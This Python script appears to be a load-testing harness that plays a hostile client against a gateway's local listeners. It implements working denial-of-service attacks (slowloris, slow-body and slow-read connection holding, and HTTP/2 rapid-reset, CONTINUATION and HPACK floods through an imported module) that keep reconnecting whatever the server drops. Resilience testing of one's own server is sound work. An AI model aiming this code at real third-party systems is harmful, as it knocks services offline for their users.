#!/usr/bin/env python3
"""Goes on being a hostile client until it is ended: hostile_load.py ATTACK PLAIN SECURE CA

ATTACK is `slowloris`, `slow_body`, `slow_read`, `rapid_reset`, `continuation_flood` or `hpack_bomb`, or `burn`, which
takes of a processor what it gets and leaves the gateway alone; PLAIN and SECURE are HOST:PORT of listeners. Prints
`ready` once it has begun, and makes every connection anew that the gateway ends. Floods come from an address of their
own, as they do in earnest.
"""
import resource
import socket
import sys
import threading
import time

import http2_hostile

CONNECTIONS = 400
FLOODERS = 4
FLOOD_SOURCE = "127.0.0.2"


class Slow:
    """Many connections, each of which says or takes a little once a second."""

    def __init__(self, address, opening, drop, receive_buffer=None):
        host, port = address.rsplit(":", 1)
        self.address = (host, int(port))
        self.opening, self.drop, self.receive_buffer = opening, drop, receive_buffer
        self.sockets = {}

    def connect(self):
        wire = socket.socket()
        if self.receive_buffer:
            wire.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, self.receive_buffer)
        wire.settimeout(5)
        wire.connect(self.address)
        wire.sendall(self.opening)
        self.sockets[wire] = time.monotonic()

    def run(self):
        for _ in range(CONNECTIONS):
            self.connect()
        print("ready", flush=True)
        while True:
            began = time.monotonic()
            for wire in list(self.sockets):
                try:
                    if self.drop:
                        wire.sendall(self.drop)
                    elif not wire.recv(16):
                        raise ConnectionError
                except OSError:
                    del self.sockets[wire]
                    wire.close()
            while len(self.sockets) < CONNECTIONS:
                try:
                    self.connect()
                except OSError:
                    break
            time.sleep(max(0.0, 1 - (time.monotonic() - began)))


def flood(attack, address, authority):
    """The same flood again and again, on as many connections as it takes."""
    run = http2_hostile.FLOODS[attack]
    while True:
        try:
            attacker = http2_hostile.Attacker(address, authority, settings={}, source=FLOOD_SOURCE)
            run(attacker)
            attacker.socket.close()
        except (http2_hostile.Ended, OSError):
            # One that is told off comes again, if not at once.
            time.sleep(0.01)


def main():
    attack, plain, secure, authority = sys.argv[1:]
    if attack == "burn":
        print("ready", flush=True)
        while True:
            pass
    resource.setrlimit(resource.RLIMIT_NOFILE, (4096, 4096))
    head = b" HTTP/1.1\r\nHost: localhost\r\n"
    slow = {
        "slowloris": lambda: Slow(plain, b"GET /open/x" + head, b"X-A: b\r\n"),
        "slow_body": lambda: Slow(plain, b"POST /open/x" + head + b"Content-Length: 1000000\r\n\r\n", b"0123456789"),
        "slow_read": lambda: Slow(plain, b"GET /large/x?bytes=4000000" + head + b"\r\n", None, 4096),
    }
    if attack in slow:
        slow[attack]().run()
    for _ in range(FLOODERS):
        threading.Thread(target=flood, args=(attack, secure, authority), daemon=True).start()
    print("ready", flush=True)
    threading.Event().wait()


if __name__ == "__main__":
    main()
